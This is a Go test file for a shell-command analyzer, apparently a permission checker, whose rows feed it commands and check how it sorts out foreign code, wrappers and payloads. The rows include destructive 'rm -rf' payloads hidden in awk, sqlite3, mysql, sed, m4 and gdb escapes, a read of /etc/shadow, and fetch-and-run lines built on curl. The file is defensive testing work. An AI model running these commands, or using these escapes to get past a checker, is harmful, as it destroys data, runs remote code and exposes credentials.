package shell

import (
	"iter"
	"maps"
	"slices"
	"testing"
)

// The program catalog at work.
func TestCatalogRows(t *testing.T) { runRows(t, newFixture(t), catalogRows) }

var catalogRows = []row{
	// awk: text transforms stay plain; system(), pipes and /inet are
	// foreign code, their literal commands bash; literal files are paths.
	{cmd: `awk '{print $1}' f`, units: us(u(`awk {print $1} f`))},
	{cmd: `awk '{ if ($1 > 3) print }' f`, units: us(u(`awk { if ($1 > 3) print } f`))},
	{cmd: `awk '{print > "/dev/stderr"}' f`, units: us(u(`awk {print > "/dev/stderr"} f`))},
	{cmd: `awk 'BEGIN{system("rm -rf ~/x")}'`, units: us(u(`awk BEGIN{system("rm -rf ~/x")}`, fgn), u(`rm -rf ~/x`, CtxPayload)), paths: ps(p(`~/x`, `@HOME@/x`))},
	{cmd: `awk '{print | "sort"}' f`, units: us(u(`awk {print | "sort"} f`, fgn), u(`sort`, CtxPayload))},
	{cmd: `awk '"date" | getline d'`, units: us(u(`awk "date" | getline d`, fgn), u(`date`, CtxPayload))},
	{cmd: `awk -v c=rm 'BEGIN{system(c)}'`, units: us(u(`awk -v c=rm BEGIN{system(c)}`, fgn))},
	{cmd: `gawk 'BEGIN{s="/inet/tcp/0/h/9"; print "x" |& s}'`, units: us(u(`gawk BEGIN{s="/inet/tcp/0/h/9"; print "x" |& s}`, fgn))},
	{cmd: `awk '{ getline l < "/etc/shadow" }' f`, units: us(u(`awk { getline l < "/etc/shadow" } f`)), paths: ps(p(`/etc/shadow`, `/etc/shadow`))},
	// Interpreters and their code options; code on standard input.
	{cmd: `python3 -c 'print(1)'`, units: us(u(`python3 -c print(1)`, fgn))},
	{cmd: `python3 -m pytest -q`, units: us(u(`python3 -m pytest -q`))},
	{cmd: `python3 script.py`, units: us(u(`python3 script.py`))},
	{cmd: "python3 - <<'EOF'\nimport os\nEOF", units: us(u(`python3 -`, fgn))},
	{cmd: `cat x.py | python3`, units: us(u(`cat x.py`), u(`python3`, fgn))},
	{cmd: `perl -ne print f`, units: us(u(`perl -ne print f`, fgn))},
	{cmd: `make --eval='$(shell rm -rf y)'`, units: us(u(`make --eval=$(shell rm -rf y)`, fgn))},
	{cmd: `latex --shell-escape doc.tex`, units: us(u(`latex --shell-escape doc.tex`, fgn))},
	{cmd: `latex doc.tex`, units: us(u(`latex doc.tex`))},
	// Escapes into the shell are bash; code without one is plain.
	{cmd: `sqlite3 db 'select 1'`, units: us(u(`sqlite3 db select 1`))},
	{cmd: `sqlite3 db '.shell rm -rf y'`, units: us(u(`sqlite3 db .shell rm -rf y`, fgn), u(`rm -rf y`, CtxPayload))},
	{cmd: `mysql -e 'select 1' db`, units: us(u(`mysql -e select 1 db`))},
	{cmd: `mysql -e '\! rm -rf y' db`, units: us(u(`mysql -e \! rm -rf y db`, fgn), u(`rm -rf y`, CtxPayload))},
	{cmd: `ed f <<< '!rm -rf y'`, units: us(u(`ed f`, fgn), u(`rm -rf y`, CtxPayload))},
	{cmd: `gdb -batch -ex '!rm -rf y' ./a.out`, units: us(u(`gdb -batch -ex !rm -rf y ./a.out`, fgn), u(`rm -rf y`, CtxPayload)), paths: ps(p(`./a.out`, `./a.out`))},
	{cmd: `m4 <<< 'esyscmd(rm -rf y)'`, units: us(u(`m4`, fgn), u(`rm -rf y`, CtxPayload))},
	{cmd: `m4 macros.m4`, units: us(u(`m4 macros.m4`))},
	{cmd: `sed 'e rm -rf y' f`, units: us(u(`sed e rm -rf y f`, fgn), u(`rm -rf y`, CtxPayload))},
	// Wrappers of the catalog: the wrapped command is a unit of its own.
	{cmd: `logsave /dev/null rm -rf y`, units: us(u(`logsave /dev/null rm -rf y`, ind), u(`rm -rf y`, CtxWrapped)), paths: ps(p(`/dev/null`, `/dev/null`))},
	{cmd: `perf stat rm -rf y`, units: us(u(`perf stat rm -rf y`, ind), u(`rm -rf y`, CtxWrapped))},
	{cmd: `npm exec -- rm -rf y`, units: us(u(`npm exec -- rm -rf y`), u(`rm -rf y`, CtxWrapped))},
	{cmd: `npm exec -c "rm -rf y"`, units: us(u(`npm exec -c rm -rf y`, opq), u(`rm -rf y`, CtxPayload))},
	{cmd: `uv run pytest -q`, units: us(u(`uv run pytest -q`), u(`pytest -q`, CtxWrapped))},
	{cmd: `npm i x`, units: us(u(`npm i x`)), paths: ps(p(`x`, `x`))},
	{cmd: `eval $(ssh-agent)`, units: us(u(`eval $(ssh-agent)`, opq), u(`$(ssh-agent)`, CtxPayload, dyn), u(`ssh-agent`, CtxCmdSubst), u(`ssh-agent`, CtxCmdSubst))},
	{cmd: `ssh-agent sh -c x`, units: us(u(`ssh-agent sh -c x`, ind), u(`sh -c x`, CtxWrapped, opq), u(`x`, CtxPayload))},
	{cmd: `tmux new -d 'rm -rf y'`, units: us(u(`tmux new -d rm -rf y`, ind), u(`rm -rf y`, CtxPayload))},
	{cmd: `echo 'rm -rf y' | at now`, units: us(u(`echo rm -rf y`), u(`at now`, opq))},
	{cmd: `socat - exec:'rm -rf y'`, units: us(u(`socat - exec:rm -rf y`, ind), u(`rm -rf y`, CtxPayload))},
	// Remote and container commands: units of their own, no local paths.
	{cmd: `ssh host rm -rf /tmp/x`, units: us(u(`ssh host rm -rf /tmp/x`), u(`rm -rf /tmp/x`, CtxPayload))},
	{cmd: `docker exec box rm -rf /x`, units: us(u(`docker exec box rm -rf /x`), u(`rm -rf /x`, CtxWrapped))},
	{cmd: `kubectl -n ns exec pod -- rm -rf /x`, units: us(u(`kubectl -n ns exec pod -- rm -rf /x`), u(`rm -rf /x`, CtxWrapped))},
	// The environment: code, programs and configuration; inert values.
	{cmd: `NODE_OPTIONS=--max-old-space-size=4096 npm run build`, units: us(u(`npm run build`)), paths: ps(p(`build`, `build`))},
	{cmd: `NODE_OPTIONS='--require ./x.js' npm test`, units: us(u(`npm test`, ind))},
	{cmd: `export NODE_OPTIONS='--require ./x.js'; npm test`, units: us(u(`export NODE_OPTIONS=--require ./x.js`, CtxDeclaration, ind), u(`npm test`, ind))},
	{cmd: `export NODE_OPTIONS=--max-old-space-size=4096; npm test`, units: us(u(`export NODE_OPTIONS=--max-old-space-size=4096`, CtxDeclaration), u(`npm test`))},
	{cmd: `MAKEFLAGS=-j8 make`, units: us(u(`make`))},
	{cmd: `GOFLAGS=-mod=mod go build`, units: us(u(`go build`)), paths: ps(p(`build`, `build`))},
	{cmd: `GIT_AUTHOR_NAME=x git commit -m y`, units: us(u(`git commit -m y`))},
	{cmd: `GIT_SSH_COMMAND=x git fetch`, units: us(u(`git fetch`, ind))},
	{cmd: `env PERL5OPT=-d perl x.pl`, units: us(u(`env PERL5OPT=-d perl x.pl`, ind), u(`perl x.pl`, CtxWrapped, ind))},
	{cmd: `AUTOM4TE=./m autoconf`, units: us(u(`autoconf`, ind))},
	{cmd: `PAGER=cat git log`, units: us(u(`git log`))},
	// Write then run.
	{cmd: `echo 'touch m' > f; chmod +x f; prog --hook=f`, units: us(u(`echo touch m`), u(`chmod +x f`), u(`prog --hook=f`, fgn)), paths: ps(p(`f`, `f`, redir))},
	{cmd: `printf 'all:\n\ttouch m\n' > Makefile; make`, units: us(u(`printf all:\n\ttouch m\n`), u(`make`, fgn)), paths: ps(p(`Makefile`, `Makefile`, redir))},
	{cmd: `npm pkg set scripts.x='touch m' && npm run x`, units: us(u(`npm pkg set scripts.x=touch m`), u(`npm run x`, fgn)), paths: ps(p(`x`, `x`))},
	{cmd: "cat > t.py <<'X'\nprint(1)\nX\npython3 t.py", units: us(u(`cat`), u(`python3 t.py`, fgn)), paths: ps(p(`t.py`, `t.py`, redir))},
	{cmd: `curl -o run.sh https://x.test/r && bash run.sh`, units: us(u(`curl -o run.sh https://x.test/r`), u(`bash run.sh`, fgn)), paths: ps(p(`run.sh`, `run.sh`))},
	{cmd: `go build -o bin/app . && ./bin/app`, units: us(u(`go build -o bin/app .`), u(`./bin/app`, alts{"app"})), paths: ps(p(`build`, `build`), p(`bin/app`, `bin/app`), p(`.`, `.`))},
	{cmd: `tsc && node dist/x.js`, units: us(u(`tsc`), u(`node dist/x.js`)), paths: ps(p(`dist/x.js`, `dist/x.js`))},
	{cmd: `echo x > notes.txt; git add notes.txt`, units: us(u(`echo x`), u(`git add notes.txt`)), paths: ps(p(`notes.txt`, `notes.txt`, redir), p(`x`, `x`))},
}

// Every name the catalog's tables give a handler is taken by one table
// only: a program in two rows would be read by whichever came last.
func TestCatalogNamesOnce(t *testing.T) {
	seen := map[string]string{}
	add := func(table string, names iter.Seq[string]) {
		for _, n := range slices.Sorted(names) {
			if prev, ok := seen[n]; ok {
				t.Errorf("%s is in %s and %s", n, prev, table)
			}
			seen[n] = table
		}
	}
	add("wrappers", maps.Keys(wrappers))
	add("programSpecs", maps.Keys(programSpecs))
	add("foreignPrograms", maps.Keys(foreignPrograms))
	add("catalogSpecials", maps.Keys(catalogSpecials))
	add("shells", maps.Keys(shells))
	add("vimFamily", maps.Keys(vimFamily))
}

var catalogMoreRows = []row{
	{cmd: `npx tsc --noEmit`, units: us(u(`npx tsc --noEmit`))},
	{cmd: `npx -c 'rm -rf y'`, units: us(u(`npx -c rm -rf y`, ind), u(`rm -rf y`, CtxPayload))},
	{cmd: `go test -exec 'sudo -n' ./...`, units: us(u(`go test -exec sudo -n ./...`, ind), u(`sudo -n`, CtxPayload, ind)), paths: ps(p(`./...`, `./...`))},
	{cmd: `make -f - <<< 'all: ; @true'`, units: us(u(`make -f -`, fgn))},
	{cmd: `ls | ts`, units: us(u(`ls`), u(`ts`))},
	{cmd: `history -s 'rm -rf build'; fc -s`, units: us(u(`history -s rm -rf build`), u(`rm -rf build`, CtxPayload), u(`fc -s`, opq)), paths: ps(p(`build`, `build`))},
	{cmd: `fc -l`, units: us(u(`fc -l`))},
	{cmd: `python3 -Ic 'print(1)'`, units: us(u(`python3 -Ic print(1)`, fgn))},
	{cmd: `python3 /dev/stdin <<< 'print(1)'`, units: us(u(`python3 /dev/stdin`, fgn)), paths: ps(p(`/dev/stdin`, `/dev/stdin`))},
	{cmd: `python3 <(curl -s x.test)`, units: us(u(`python3 <(curl -s x.test)`, fgn), u(`curl -s x.test`, CtxProcSubst))},
	{cmd: `xargs python3 -c 'print(1)'`, units: us(u(`xargs python3 -c print(1)`, ind), u(`python3 -c print(1)`, CtxWrapped, fgn))},
	{cmd: `python3.12 -c 'print(1)'`, units: us(u(`python3.12 -c print(1)`, fgn))},
	{cmd: `GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~2`, units: us(u(`git rebase -i HEAD~2`))},
	{cmd: `GIT_SSH_VARIANT=ssh git fetch`, units: us(u(`git fetch`, ind))},
}

func TestCatalogMoreRows(t *testing.T) { runRows(t, newFixture(t), catalogMoreRows) }

// Which rule may decide a foreign-code unit: the code option's words,
// only while every foreign code the unit runs comes from that option.
func TestForeignCodeRule(t *testing.T) {
	fx := newFixture(t)
	for _, c := range []struct {
		cmd  string
		rule []string
	}{
		{`python3 -c 'print(1)'`, []string{"python3", "-c"}},
		{`perl -e 'print 1' -e 'print 2'`, []string{"perl", "-e"}},
		{`perl -ne print f`, []string{"perl", "-e"}},
		{"python3 - <<'EOF'\nprint(1)\nEOF", nil},
		{"python3 -c 'print(1)' <<'EOF'\nx\nEOF", []string{"python3", "-c"}}, // -c given: stdin is data
		{"echo 'x' > s.py; python3 -c 'print(1)' s.py", nil},                 // a file it wrote, run too
		{`sqlite3 db '.shell ls'`, nil},
		{`awk 'BEGIN{system("ls")}'`, nil},
	} {
		a := Analyze(fx.expand(c.cmd), fx.options())
		var got []string
		found := false
		for _, u := range a.Units {
			if u.Floor == SentinelForeign {
				got, found = u.CodeRule, true
			}
		}
		if !found || !slices.Equal(got, c.rule) {
			t.Errorf("%s: foreign %v, rule %q, want %q", c.cmd, found, got, c.rule)
		}
	}
}

// Options read as the interpreter reads them: a flag glued before the code
// option does not swallow it.
var interpreterOptionRows = []row{
	{cmd: `perl -pi -e 's/foo/bar/' ./f.txt`, units: us(u(`perl -pi -e s/foo/bar/ ./f.txt`, fgn)), paths: ps(p(`./f.txt`, `./f.txt`))},
	{cmd: `ruby -W -e 'puts 1'`, units: us(u(`ruby -W -e puts 1`, fgn))},
	{cmd: `mysql -p db -e '\! ls'`, units: us(u(`mysql -p db -e \! ls`, fgn), u(`ls`, CtxPayload))},
}

func TestInterpreterOptions(t *testing.T) { runRows(t, newFixture(t), interpreterOptionRows) }

// fc runs a history entry the command line does not show, and history -s
// is where that entry comes from: fc is opaque (but fc -l lists), and the
// words of history -s are analyzed as a script.
func TestHistoryAndFc(t *testing.T) {
	fx := newFixture(t)
	for _, c := range []struct {
		cmd   string
		floor string
		unit  string // a unit that must be found
	}{
		{"fc -s", SentinelOpaque, ""},
		{"fc -e vi 3", SentinelOpaque, ""},
		{"fc -l", "", ""},
		{"history -s 'rm -rf build'; fc -s", SentinelOpaque, "rm -rf build"},
		{"history -s git status", "", "git status"},
	} {
		a := Analyze(fx.expand(c.cmd), fx.options())
		floor, found := "", c.unit == ""
		for _, u := range a.Units {
			if floorRank[u.Floor] > floorRank[floor] {
				floor = u.Floor
			}
			found = found || u.Text == c.unit
		}
		if floor != c.floor || !found {
			t.Errorf("%s: floor %q (want %q), unit %q found %t; units %+v", c.cmd, floor, c.floor, c.unit, found, a.Units)
		}
	}
}
